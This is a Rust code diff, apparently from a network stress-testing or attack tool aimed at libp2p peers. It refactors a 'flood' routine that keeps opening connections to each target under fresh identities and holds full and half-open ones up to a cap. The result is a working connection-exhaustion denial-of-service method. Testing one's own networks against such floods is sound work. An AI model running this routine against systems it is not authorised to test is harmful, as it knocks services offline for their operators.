@@ -14,7 +14,10 @@ use libp2p::{
 };
 use tokio::{net::TcpStream, task::JoinSet, time};
 
-use super::{Attack, AttackError, AttackPlan, Tally, count, transport};
+use super::{
+    plan::{Attack, AttackPlan, Tally},
+    transport,
+};
 
 /// Connections of either kind held open; further ones are closed at once.
 const HELD_MAX: usize = 1000;
@@ -22,36 +25,38 @@ const HELD_MAX: usize = 1000;
 const PATIENCE: Duration = Duration::from_secs(2);
 
 /// Opens connections, one after the other, for ever.
-pub(super) async fn flood(plan: &AttackPlan, tally: &Tally) -> Result<Infallible, AttackError> {
+pub async fn flood(plan: &AttackPlan, tally: &Tally) -> anyhow::Result<Infallible> {
     let mut complete: JoinSet<()> = JoinSet::new();
     let mut half_open: Vec<TcpStream> = Vec::new();
     loop {
-        let before = tally.sent_by(Attack::Connections);
+        let mut has_opened = false;
         for target in &plan.targets {
             if let Some(muxer) = connect(target).await? {
-                tally.add(Attack::Connections, 1);
+                tally.sent(Attack::Connections);
+                has_opened = true;
                 while complete.try_join_next().is_some() {}
                 if complete.len() < HELD_MAX {
                     complete.spawn(hold(muxer));
                 }
             } else {
-                count(&tally.thrown_out);
+                tally.count(|deeds| deeds.thrown_out += 1);
             }
             let tcp = async { TcpStream::connect(socket_of(target)?).await.ok() };
             if let Ok(Some(stream)) = time::timeout(PATIENCE, tcp).await {
-                tally.add(Attack::Connections, 1);
+                tally.sent(Attack::Connections);
+                has_opened = true;
                 half_open.push(stream);
             }
         }
         half_open.truncate(HELD_MAX);
-        if tally.sent_by(Attack::Connections) == before {
+        if !has_opened {
             // Everybody refuses: a pause keeps the loop from spinning on errors of the system.
             time::sleep(Duration::from_millis(1)).await;
         }
     }
 }
 
-/// Keeps a connection alive until the other side closes it, and says nothing on it.
+/// Keeps a connection alive until the other side closes it, and sends nothing on it.
 async fn hold(mut muxer: StreamMuxerBox) {
     std::future::poll_fn(|context| {
         while let Poll::Ready(stream) = Pin::new(&mut muxer).poll_inbound(context) {
@@ -65,7 +70,7 @@ async fn hold(mut muxer: StreamMuxerBox) {
 }
 
 /// A complete connection under a fresh identity; `None` when it is refused.
-async fn connect(target: &Multiaddr) -> Result<Option<StreamMuxerBox>, AttackError> {
+async fn connect(target: &Multiaddr) -> anyhow::Result<Option<StreamMuxerBox>> {
     let keypair = Identity::generate()?.keypair()?;
     let Ok(mut transport) = transport::build(&keypair) else { return Ok(None) };
     let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::New };
